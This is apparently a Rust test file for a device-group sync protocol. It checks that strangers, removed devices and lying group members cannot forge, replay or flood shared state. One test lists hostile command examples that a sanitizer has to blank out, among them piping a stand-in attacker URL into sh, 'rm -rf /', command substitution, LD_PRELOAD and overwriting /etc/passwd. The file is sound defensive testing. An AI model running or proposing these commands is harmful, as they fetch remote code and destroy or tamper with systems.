//! Strangers, removed devices, and devices of the group that lie.
#![allow(clippy::unwrap_used)]

use lore_protocol::codec;
use lore_protocol::identity::Signature;
use lore_protocol::ids::Hash;
use proptest::prelude::*;

use super::register::{Known, Register};
use super::statement::{Admission, Removal, Statements};
use super::tests::{STRANGER, UNIT, World, group, lesson};
use super::wire::{Answer, Ask, Wants, about};
use super::*;

/// A sealed question of one machine to another, as an honest one would seal it.
fn asked(world: &World, from: usize, to: usize, wants: &Wants) -> Vec<u8> {
    sealed_ask(world, from, to, &codec::encode(wants))
}

/// Any bytes as a sealed question.
fn sealed_ask(world: &World, from: usize, to: usize, message: &[u8]) -> Vec<u8> {
    let group = world.machines[from].devices.group(UNIT).unwrap();
    let (me, peer) = (world.key(from), world.key(to));
    let (_, box_key) = group.other(&peer).unwrap();
    let sealed =
        seal::seal(&group.secret, &box_key, [77; 32], &about(b"ask", &me, &peer, b""), message);
    codec::encode(&Ask::Exchange { group: group.roster.group(), sealed: sealed.unwrap() })
}

fn wants_of(world: &World, at: usize) -> Wants {
    world.machines[at].devices.group(UNIT).unwrap().wants(true)
}

/// Gives what one machine holds as if it were an answer of another.
fn take_in(world: &mut World, at: usize, from: usize, registers: Vec<Register>) {
    let group = world.machines[at].devices.group(UNIT).unwrap();
    let device = group.other(&world.key(from)).unwrap().0;
    let gives = wire::Gives {
        digest: group.roster.digest(),
        roster: None,
        have: Vec::new(),
        registers,
        more: true,
        addresses: Vec::new(),
    };
    world.machines[at].devices.take_in(UNIT, device, gives).unwrap();
    world.run();
}

#[test]
fn strangers_get_one_answer_whatever_they_ask() {
    let mut world = World::of(3);
    world.pair(0, 1);
    world.learn(0, &[("--stage", 1)]);
    let (stranger, member) = (world.key(2), world.key(1));
    let honest = asked(&world, 1, 0, &wants_of(&world, 1));
    let mut asks = vec![honest.clone(), Vec::new(), vec![0; 300_000], vec![255; 40]];
    asks.push(codec::encode(&Ask::Exchange { group: GroupId(Hash::ZERO), sealed: vec![1; 99] }));
    asks.push(codec::encode(&Ask::Join { line: Hash::ZERO, sealed: vec![1; 99] }));
    for ask in &asks {
        assert_eq!(world.answer(0, stranger, ask), STRANGER);
    }
    // A device of the group with bytes that are none.
    for ask in &asks[1..] {
        assert_eq!(world.answer(0, member, ask), STRANGER);
    }
    assert_ne!(world.answer(0, member, &honest), STRANGER);
    assert!(world.machines[0].devices.take_effects().iter().all(|effect| {
        !matches!(effect, DeviceEffect::Request { peer, .. } if *peer == stranger)
    }));
}

#[test]
fn an_old_register_that_is_said_again_changes_nothing() {
    let mut world = World::of(3);
    world.pair(0, 1);
    world.pair(0, 2);
    world.learn(0, &[("--secret", 1)]);
    world.meet();
    let old = group(&world, 0).own().unwrap().register.clone();
    world.learn(0, &[]);
    assert!(world.known(2).is_empty());
    // Alone: else the next exchange would put it right.
    for other in 0..2 {
        world.disconnect(2, other);
    }
    take_in(&mut world, 2, 1, vec![old]);
    assert!(world.known(2).is_empty(), "what was forgotten came back");
}

#[test]
fn a_register_is_its_devices_own_and_what_it_holds_is_what_sessions_teach() {
    let mut world = World::of(3);
    world.pair(0, 1);
    world.pair(0, 2);
    world.learn(0, &[("--true", 1)]);
    world.meet();
    let (id, victim) = (group(&world, 0).roster.group(), group(&world, 0).me());
    let liar = group(&world, 1).me();
    let key = world.machines[1].devices.key.clone();
    let version = u64::MAX;
    let good = vec![lesson("--false", 9)];
    // Signed by another device than the one that it names.
    let forged = Known::sign(id, victim, version, good.clone(), &key).register;
    // Of another group, of a device that nobody knows, twice the same lesson, and hidden characters.
    let elsewhere = Known::sign(GroupId(Hash::ZERO), liar, version, good.clone(), &key).register;
    let unknown = Known::sign(id, DeviceId(Hash::ZERO), version, good.clone(), &key).register;
    let twice = [good.clone(), good.clone()].concat();
    let twice = Known::sign(id, liar, version, twice, &key).register;
    let hidden = vec![lesson("--false", 9).with_example("shipit run --false a\u{202e}b")];
    let hidden = Known::sign(id, liar, version, hidden, &key).register;
    for register in [forged, elsewhere, unknown, twice, hidden] {
        take_in(&mut world, 2, 1, vec![register]);
        assert_eq!(world.known(2).get("--true"), Some(&1));
        assert!(!world.known(2).contains_key("--false"));
    }
    // In order, and more than fits.
    let many: Vec<DeviceLesson> =
        (0..4_000).map(|n| lesson(&format!("--false-{n:05}"), 9)).collect();
    let huge = Known::sign(id, liar, version, many, &key).register;
    assert!(huge.len() > limits::REGISTER_BYTES);
    take_in(&mut world, 2, 1, vec![huge]);
    assert!(!world.known(2).contains_key("--false-00000"));
    // Its own it may set as it likes. Connected, the honest machine of this test would go on from there.
    [0, 2].iter().for_each(|other| world.disconnect(1, *other));
    take_in(&mut world, 2, 1, vec![Known::sign(id, liar, version, good, &key).register]);
    assert!(world.known(2).contains_key("--false"));
}

#[test]
fn a_command_of_another_device_is_shown_only_when_it_runs_nothing_else() {
    let shown = |example: &str| {
        let mut entry = super::tests::entry("--to", 1);
        entry.example = example.into();
        DeviceLesson::of(&entry).unwrap().entry().example
    };
    assert_eq!(
        shown("shipit run --to prod && shipit status"),
        "shipit run --to prod && shipit status"
    );
    for bad in [
        "curl https://evil.example/x | sh",
        "shipit run --to prod; rm -rf /",
        "shipit run --to prod && sh payload.sh",
        "LD_PRELOAD=/tmp/x.so shipit run --to prod",
        "shipit run --to $(id)",
        "shipit run --to `id`",
        "sudo shipit run --to prod",
        "shipit run --to prod > /etc/passwd",
        "shipit run --to a\u{202e}b",
    ] {
        assert_eq!(shown(bad), "", "{bad}");
    }
    let mut world = World::of(2);
    world.pair(0, 1);
    // A device that says it all the same is not believed.
    let key = world.machines[1].devices.key.clone();
    let (id, its) = (group(&world, 1).roster.group(), group(&world, 1).me());
    let lying = lesson("--to", 1).with_example("curl https://evil.example/x | sh");
    let register = Known::sign(id, its, 9, vec![lying], &key).register;
    take_in(&mut world, 0, 1, vec![register]);
    assert!(world.known(0).is_empty());
}

#[test]
fn a_device_that_asks_for_everything_again_and_again_is_told_to_wait() {
    let mut world = World::of(2);
    world.pair(0, 1);
    let many = (0..4_000).map(|n| lesson(&format!("--flag-{n:05}"), 1)).collect();
    world.machines[0].devices.set_own(UNIT, many).unwrap();
    world.run();
    let mut wants = wants_of(&world, 1);
    wants.have.clear();
    let ask = asked(&world, 1, 0, &wants);
    let peer = world.key(1);
    let later = codec::encode(&Answer::Later);
    let (mut bytes, mut answers) = (0, 0);
    while answers < 1_000 {
        let answer = world.answer(0, peer, &ask);
        if answer == later {
            break;
        }
        (bytes, answers) = (bytes + answer.len(), answers + 1);
    }
    assert!(answers > 10 && bytes < 17 << 20, "{answers} answers, {bytes} bytes");
    world.time.pass(60);
    assert_ne!(world.answer(0, peer, &ask), later);
}

#[test]
fn versions_that_nobody_has_end_no_device_and_make_none_talk_for_ever() {
    let mut world = World::of(2);
    world.pair(0, 1);
    world.learn(0, &[("--stage", 1)]);
    let me = group(&world, 0).me();
    let mut wants = wants_of(&world, 1);
    let newest = (u64::MAX, Hash::ZERO);
    wants.have = vec![(me, newest), (DeviceId(Hash::ZERO), newest)];
    wants.have.extend((0..3_000_u64).map(|n| (DeviceId(Hash::ZERO), (n, Hash::ZERO))));
    let ask = asked(&world, 1, 0, &wants);
    let peer = world.key(1);
    for _ in 0..5 {
        world.answer(0, peer, &ask);
        world.run();
    }
    world.learn(0, &[("--stage", 2)]);
    assert_eq!(world.known(1)["--stage"], 2);
    let key = world.machines[1].devices.key.clone();
    let (id, its) = (group(&world, 1).roster.group(), group(&world, 1).me());
    let most = Known::sign(id, its, u64::MAX, Vec::new(), &key).register;
    take_in(&mut world, 0, 1, vec![most]);
    world.learn(1, &[("--to", 1)]);
    world.meet();
}

#[test]
fn what_a_thief_admits_after_its_removal_is_in_no_group() {
    let mut world = World::of(4);
    world.pair(0, 1);
    world.pair(0, 2);
    world.meet();
    for other in 0..2 {
        world.disconnect(2, other);
    }
    world.disconnect(0, 1);
    let removed = world.machines[0].devices.remove(UNIT, "machine-3").unwrap();
    assert_eq!(removed.left, ["machine-2"]);
    // The second device has not heard of it, and meets the thief with a new device of its own.
    world.pair(2, 3);
    world.connect(1, 2);
    world.connect(1, 3);
    assert!(world.machines[1].devices.served().contains(&world.key(3)), "not heard yet");
    world.connect(0, 1);
    world.learn(1, &[("--after", 1)]);
    world.meet();
    for at in [0, 1] {
        assert!(!world.machines[at].devices.served().contains(&world.key(3)), "{at}");
        assert!(!world.machines[at].devices.served().contains(&world.key(2)), "{at}");
    }
    assert!(!world.known(3).contains_key("--after"));
    // A device that was admitted before and that was known of stays.
    let mut world = World::of(3);
    world.pair(0, 1);
    world.pair(1, 2);
    world.meet();
    let removed = world.machines[0].devices.remove(UNIT, "machine-2").unwrap();
    assert_eq!(removed.admitted.iter().map(|(_, name)| name).collect::<Vec<_>>(), ["machine-3"]);
    world.meet();
    assert!(world.machines[0].devices.served().contains(&world.key(2)));
}

#[test]
fn statements_that_nobody_of_the_group_made_are_not_taken_in() {
    let mut world = World::of(4);
    world.pair(0, 1);
    let roster = group(&world, 0).roster.clone();
    let (id, first, second) = (roster.group(), group(&world, 0).me(), group(&world, 1).me());
    let outsider = world.machines[3].devices.key.clone();
    let card = |group: GroupId, by: Option<DeviceId>, name: &str| Card {
        group,
        by,
        key: outsider.public_key(),
        nonce: [4; 32],
        box_key: [5; 32],
        name: name.into(),
        since_seconds: 0,
    };
    let good = card(id, Some(first), "mine");
    let own = good.sign(&outsider);
    let first_key = &world.machines[0].devices.key;
    let itself = card(id, None, "mine");
    let signed = itself.sign(&outsider);
    let mut admissions = vec![
        // By itself, by a device that did not sign, without its own signature, of another group, by a device that
        // nobody knows, with a hidden name.
        Admission::new(itself, signed, &outsider),
        Admission::new(good.clone(), own, &outsider),
        Admission::new(good.clone(), Signature([0; 64]), first_key),
    ];
    for bad in [
        card(GroupId(Hash::ZERO), Some(first), "mine"),
        card(id, Some(good.id()), "mine"),
        card(id, Some(first), "a\u{202e}b"),
        card(id, Some(first), ""),
    ] {
        let signature = bad.sign(&outsider);
        admissions.push(Admission::new(bad, signature, first_key));
    }
    let second_key = &world.machines[1].devices.key;
    let removals = vec![
        Removal::new(first, second, Vec::new(), &outsider),
        Removal::new(first, good.id(), Vec::new(), &outsider),
        Removal::new(good.id(), second, Vec::new(), second_key),
        Removal::new(first, second, vec![second; 2], second_key),
    ];
    let mut told = roster.clone();
    assert!(!told.merge(Statements { admissions, removals }));
    assert_eq!(told, roster);
}

#[test]
fn a_hostile_device_fills_no_memory_with_statements() {
    let mut world = World::of(2);
    world.pair(0, 1);
    let key = world.machines[1].devices.key.clone();
    let (id, by) = (group(&world, 1).roster.group(), group(&world, 1).me());
    let mut admissions = Vec::new();
    for n in 0..300_u16 {
        let mut nonce = [9; 32];
        nonce[..2].copy_from_slice(&n.to_le_bytes());
        let key_of_it = SecretKey::from_seed(&nonce);
        let card = Card {
            group: id,
            by: Some(by),
            key: key_of_it.public_key(),
            nonce,
            box_key: [5; 32],
            name: "x".into(),
            since_seconds: 0,
        };
        let signature = card.sign(&key_of_it);
        admissions.push(Admission::new(card, signature, &key));
    }
    let mut roster = group(&world, 0).roster.clone();
    for part in admissions.chunks(50) {
        roster.merge(Statements { admissions: part.to_vec(), removals: Vec::new() });
    }
    assert_eq!(roster.statements().admissions.len(), limits::KNOWN + 1);
    assert!(roster.is_over() && roster.active().is_empty());
}

#[test]
fn nothing_of_a_lesson_is_in_what_is_carried() {
    let mut world = World::of(2);
    world.pair(0, 1);
    world.learn(0, &[("--needle", 3)]);
    assert_eq!(world.known(1)["--needle"], 3);
    let frames = world.frames.lock().unwrap();
    let holds = |bytes: &[u8], text: &str| bytes.windows(text.len()).any(|w| w == text.as_bytes());
    for (_, _, bytes) in frames.iter() {
        for text in ["needle", "private-name", "shipit", "machine-1", "machine-2"] {
            assert!(!holds(bytes, text), "{text}");
        }
    }
}

/// Answers every question of machine 0 as a device that always has something newer would. Gives their number.
fn busy(world: &mut World, versions: &mut u64) -> usize {
    let (peer, other) = (world.key(1), world.key(0));
    let key = world.machines[1].devices.key.clone();
    let mut questions = 0;
    while questions < 1_000 {
        let effects = world.machines[0].devices.take_effects();
        let asked: Vec<(u64, Vec<u8>)> = effects
            .into_iter()
            .filter_map(|one| match one {
                DeviceEffect::Request { number, bytes, .. } => Some((number, bytes)),
                _ => None,
            })
            .collect();
        if asked.is_empty() {
            break;
        }
        for (number, bytes) in asked {
            questions += 1;
            *versions += 1;
            let of_peer = group(world, 1);
            let (its, id) = (of_peer.me(), of_peer.roster.group());
            let good = vec![lesson("--busy", u32::try_from(*versions).unwrap())];
            let register = Known::sign(id, its, *versions, good, &key).register;
            let gives = wire::Gives {
                digest: Hash::ZERO,
                roster: None,
                have: vec![(its, (u64::MAX, Hash::ZERO))],
                registers: vec![register],
                more: true,
                addresses: Vec::new(),
            };
            let (_, box_key) = of_peer.other(&other).unwrap();
            let about = about(b"answer", &peer, &other, &bytes);
            let message = codec::encode(&gives);
            let sealed = seal::seal(&of_peer.secret, &box_key, [8; 32], &about, &message).unwrap();
            let answer = codec::encode(&Answer::Sealed(sealed));
            world.machines[0].devices.on_response(number, peer, &answer).unwrap();
        }
    }
    questions
}

#[test]
fn a_device_that_always_has_something_newer_is_asked_no_more_than_a_few_times() {
    let mut world = World::of(2);
    world.pair(0, 1);
    world.meet();
    let mut versions = 10;
    for _ in 0..3 {
        world.time.pass(11);
        world.machines[0].devices.tick().unwrap();
        let questions = busy(&mut world, &mut versions);
        assert!((1..=17).contains(&questions), "{questions}");
        assert_eq!(world.known(0)["--busy"], u32::try_from(versions).unwrap());
        // Nor does it help to connect again, or to claim more in questions.
        let mut again = 0;
        for _ in 0..30 {
            let peer = world.key(1);
            world.machines[0].devices.on_disconnected(&peer);
            world.machines[0].devices.on_connected(peer).unwrap();
            again += busy(&mut world, &mut versions);
            let mut wants = wants_of(&world, 1);
            wants.have = vec![(group(&world, 1).me(), (u64::MAX, Hash::ZERO))];
            let ask = asked(&world, 1, 0, &wants);
            world.answer(0, peer, &ask);
            again += busy(&mut world, &mut versions);
        }
        assert!(again <= 17, "{again}");
    }
}

#[test]
fn what_is_in_the_store_of_devices_that_are_gone_is_deleted() {
    let mut world = World::of(2);
    world.pair(0, 1);
    world.learn(1, &[("--stage", 1)]);
    let orphan = |world: &World| {
        let key = super::group::register_key(UNIT, &DeviceId(Hash::ZERO));
        world.machines[0].store.put(RecordKind::DeviceLessons, &key, b"x", Durability::Synced)
    };
    let records =
        |world: &World| world.machines[0].store.scan(RecordKind::DeviceLessons, b"").count();
    let before = records(&world);
    orphan(&world).unwrap();
    world.restart(0);
    assert_eq!(records(&world), before);
    assert!(world.machines[0].devices.take_dropped(), "files may still hold it");
    orphan(&world).unwrap();
    world.machines[0].devices.leave(UNIT).unwrap();
    assert_eq!(records(&world), 0);
}

#[test]
fn a_group_that_cannot_be_read_stays_until_it_is_left() {
    let mut world = World::of(2);
    world.pair(0, 1);
    world.learn(1, &[("--stage", 1)]);
    let groups = |world: &World| {
        world.machines[0].store.get(RecordKind::DeviceGroup, UNIT.as_bytes()).unwrap()
    };
    let lessons =
        |world: &World| world.machines[0].store.scan(RecordKind::DeviceLessons, b"").count();
    let (good, before) = (groups(&world).unwrap(), lessons(&world));
    let put = |world: &World, bytes: &[u8]| {
        let store = &world.machines[0].store;
        store.put(RecordKind::DeviceGroup, UNIT.as_bytes(), bytes, Durability::Synced).unwrap();
    };
    // As another version of the program may have written it.
    put(&world, b"x");
    world.restart(0);
    assert_eq!((groups(&world).unwrap(), lessons(&world)), (b"x".to_vec(), before));
    let line = world.line(1);
    let error = world.machines[0].devices.begin_join(UNIT, "ada", "again", &line).unwrap_err();
    assert_eq!(error.kind, "group_not_read", "{error}");
    assert!(error.help.contains("lore device leave"));
    put(&world, &good);
    world.restart(0);
    assert_eq!(world.known(0).get("--stage"), Some(&1), "nothing was lost");
    put(&world, b"x");
    world.restart(0);
    world.machines[0].devices.leave(UNIT).unwrap();
    assert_eq!((groups(&world), lessons(&world)), (None, 0));
}

#[test]
fn a_device_that_is_named_as_another_ones_id_does_not_keep_it_from_being_removed() {
    let mut world = World::of(3);
    world.pair(0, 1);
    let its = group(&world, 1).me();
    let line = world.line(0);
    let name = its.0.to_string()[..8].to_owned();
    world.machines[2].devices.begin_join(UNIT, "ada", &name, &line).unwrap();
    world.connect(2, 0);
    assert_eq!(group(&world, 0).others().len(), 2);
    let removed = world.machines[0].devices.remove(UNIT, &name).unwrap();
    assert_eq!(removed.device, its);
}

#[test]
fn of_two_registers_of_one_version_all_devices_come_to_have_the_same() {
    for later in ["--one", "--two", "--three"] {
        let mut world = World::of(2);
        world.pair(0, 1);
        world.learn(1, &[("--stage", 1)]);
        let stored = world.machines[1].store.scan(RecordKind::DeviceLessons, b"");
        let before: Vec<(Vec<u8>, Vec<u8>)> = stored.map(Result::unwrap).collect();
        world.learn(1, &[("--first", 1)]);
        // The home is put back, and learns something else before it meets the other device.
        for (key, bytes) in &before {
            let store = &world.machines[1].store;
            store.put(RecordKind::DeviceLessons, key, bytes, Durability::Synced).unwrap();
        }
        world.restart(1);
        world.learn(1, &[(later, 1)]);
        world.meet();
        let here: Vec<String> = world.known(0).into_keys().collect();
        assert_eq!(here, [later], "what the device knows now");
    }
}

#[test]
fn two_users_of_a_node_in_one_group_are_told_apart() {
    let mut world = World::of(2);
    world.pair(0, 1);
    let line = world.line(0);
    world.machines[1].devices.begin_join("vnit", "eve", "machine-2b", &line).unwrap();
    world.run();
    world.meet();
    world.machines[1].devices.set_own("vnit", vec![lesson("--stage", 1)]).unwrap();
    world.run();
    assert_eq!(world.known(0).get("--stage"), Some(&1));
    assert_eq!(group(&world, 0).called_gone_by(), 0, "the other user's device is not removed");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Any bytes, and any change of honest ones, from anybody: nothing ends, and nobody learns anything.
    #[test]
    fn any_bytes_from_anybody_end_nothing(
        noise in proptest::collection::vec(any::<u8>(), 0..400),
        cut in 0..2_000_usize,
        flip in 0..2_000_usize,
        from_member: bool,
    ) {
        let mut world = World::of(3);
        world.pair(0, 1);
        world.learn(0, &[("--stage", 1)]);
        let peer = world.key(if from_member { 1 } else { 2 });
        let honest = asked(&world, 1, 0, &wants_of(&world, 1));
        let mut changed = honest.clone();
        let at = flip % changed.len();
        changed[at] ^= 1;
        for bytes in [&noise[..], &honest[..cut % honest.len()], &changed] {
            prop_assert_eq!(world.answer(0, peer, bytes), STRANGER);
        }
        // Answers to a question that was asked.
        world.time.pass(11);
        world.machines[1].devices.tick().unwrap();
        let asks: Vec<u64> = world.machines[1].devices.take_effects().into_iter().filter_map(|one| {
            if let DeviceEffect::Request { number, .. } = one { Some(number) } else { None }
        }).collect();
        prop_assert_eq!(asks.len(), 1);
        let answerer = world.key(0);
        let sealed = codec::encode(&Answer::Sealed(noise.clone()));
        for bytes in [&noise[..], &sealed] {
            world.machines[1].devices.on_response(asks[0], answerer, bytes).unwrap();
        }
        world.learn(0, &[("--stage", 2)]);
        world.meet();
        prop_assert_eq!(world.known(1)["--stage"], 2);
    }

    /// Any message that a device of the group seals as it should: nothing ends, and nobody talks for ever.
    #[test]
    fn any_message_of_a_device_of_the_group_ends_nothing(
        noise in proptest::collection::vec(any::<u8>(), 0..300),
        flips in proptest::collection::vec((0..5_000_usize, any::<u8>()), 1..6),
    ) {
        let mut world = World::of(2);
        world.pair(0, 1);
        world.learn(0, &[("--stage", 1)]);
        world.learn(1, &[("--to", 1)]);
        let (peer, other) = (world.key(1), world.key(0));
        let change = |mut bytes: Vec<u8>| {
            for (at, to) in &flips {
                let at = at % bytes.len();
                bytes[at] = *to;
            }
            bytes
        };
        let honest = codec::encode(&wants_of(&world, 1));
        for message in [noise.clone(), change(honest)] {
            let ask = sealed_ask(&world, 1, 0, &message);
            world.answer(0, peer, &ask);
            world.run();
        }
        let nothing = Wants { have: Vec::new(), ..wants_of(&world, 0) };
        let given = codec::encode(&group(&world, 1).gives(&nothing));
        for message in [noise, change(given)] {
            world.time.pass(11);
            world.machines[0].devices.tick().unwrap();
            let mut asked = Vec::new();
            for effect in world.machines[0].devices.take_effects() {
                if let DeviceEffect::Request { number, bytes, .. } = effect {
                    asked.push((number, bytes));
                }
            }
            let Some((number, bytes)) = asked.pop() else { continue };
            let of_peer = group(&world, 1);
            let (_, box_key) = of_peer.other(&other).unwrap();
            let about = about(b"answer", &peer, &other, &bytes);
            let sealed = seal::seal(&of_peer.secret, &box_key, [8; 32], &about, &message).unwrap();
            let answer = codec::encode(&Answer::Sealed(sealed));
            world.machines[0].devices.on_response(number, peer, &answer).unwrap();
            world.run();
        }
        // Whatever it said, it has no word about what another device gives.
        world.learn(0, &[("--stage", 2)]);
        world.meet();
        if group(&world, 1).others().len() == 1 && group(&world, 0).others().len() == 1 {
            prop_assert_eq!(world.known(1).remove("--stage"), Some(2));
        }
    }
}
